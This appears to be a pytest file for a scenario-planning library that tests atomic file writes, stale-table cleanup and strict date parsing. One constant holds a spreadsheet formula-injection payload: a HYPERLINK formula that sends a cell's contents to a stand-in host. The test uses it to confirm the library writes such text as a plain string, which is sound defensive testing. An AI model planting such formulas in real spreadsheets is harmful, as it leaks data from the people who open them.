"""Every write is atomic, spreadsheets carry text as text, and dates are never guessed (#16)."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import peaceplan as pp
import pytest
from peaceplan import tables
from peaceplan._tables_write import write_excel

INJECTION = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_names_beginning_with_equals_are_written_as_text_and_read_back(tmp_path):
    d = pp.examples.postwar_country().to_dict()
    d["interventions"][0]["name"] = INJECTION
    sc = pp.Scenario.from_dict(d)
    path = sc.to_excel(tmp_path / "s.xlsx")
    sheet = openpyxl.load_workbook(path)["interventions"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == INJECTION]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string cell, not a formula Excel would evaluate
    back = pp.read_excel(path)
    assert back == sc
    assert back.to_dict()["interventions"][0]["name"] == INJECTION


def test_failed_workbook_write_keeps_the_good_file(tmp_path, monkeypatch):
    path = pp.examples.postwar_country().to_excel(tmp_path / "s.xlsx")
    before = _files(tmp_path)
    real = pd.DataFrame.to_excel
    calls = {"n": 0}

    def failing(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError("disk full")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_excel", failing)
    with pytest.raises(OSError, match="disk full"):
        write_excel(tables.to_frames(pp.examples.political_transition()), path)
    assert _files(tmp_path) == before  # same bytes, and no temporary file left behind


def test_failed_csv_write_keeps_every_table(tmp_path, monkeypatch):
    folder = tables.to_csv(pp.examples.postwar_country(), tmp_path / "csv")
    before = _files(folder)
    calls = {"n": 0}
    real = pd.DataFrame.to_csv

    def failing(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("disk full")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", failing)
    d = pp.examples.postwar_country().to_dict()
    d["name"] = "changed"
    with pytest.raises(OSError, match="disk full"):
        tables.to_csv(pp.Scenario.from_dict(d), folder)
    assert _files(folder) == before
    monkeypatch.undo()
    assert pp.read_csv(folder) == pp.examples.postwar_country()


def test_csv_rewrite_leaves_no_stale_table(tmp_path):
    sc = pp.examples.postwar_country()
    assert sc.to_dict()["risks"]
    folder = tables.to_csv(sc, tmp_path / "csv")
    d = sc.to_dict()
    d["risks"] = []
    no_risks = pp.Scenario.from_dict(d)
    tables.to_csv(no_risks, folder)
    back = pp.read_csv(folder)
    assert back == no_risks
    assert not back.to_dict().get("risks")


def test_failed_result_save_keeps_the_good_file(tmp_path, monkeypatch):
    res = pp.explore.sobol(lambda x: x[:, 0] + 2 * x[:, 1], [(0, 1), (0, 1)], n=64)
    path = tmp_path / "sobol.npz"
    res.save(path)
    before = _files(tmp_path)
    real = np.savez

    def failing(file, *args, **kwargs):
        file.write(b"PK\x03\x04 truncated")
        raise OSError("disk full")

    monkeypatch.setattr(np, "savez", failing)
    with pytest.raises(OSError, match="disk full"):
        res.save(path)
    monkeypatch.setattr(np, "savez", real)
    assert _files(tmp_path) == before
    assert pp.explore.load(path) == res


def test_result_save_appends_npz_like_numpy(tmp_path):
    res = pp.explore.sobol(lambda x: x[:, 0], [(0, 1), (0, 1)], n=16)
    res.save(tmp_path / "plain")
    assert pp.explore.load(tmp_path / "plain.npz") == res


@pytest.mark.parametrize("text", ["now", "today", "3 May 2030", "2030-02-30"])
def test_start_date_must_be_a_written_date(tmp_path, text):
    folder = tables.to_csv(pp.examples.postwar_country(), tmp_path / "csv")
    meta = pd.read_csv(folder / "scenario.csv")
    meta.loc[meta["key"] == "start_date", "value"] = text
    meta.to_csv(folder / "scenario.csv", index=False)
    with pytest.raises(pp.SheetError, match="start_date") as err:
        pp.read_csv(folder)
    assert err.value.column == "start_date"


def test_start_date_as_written_date_is_kept(tmp_path):
    sc = pp.examples.postwar_country()
    folder = tables.to_csv(sc, tmp_path / "csv")
    assert pp.read_csv(folder).start_date == sc.start_date
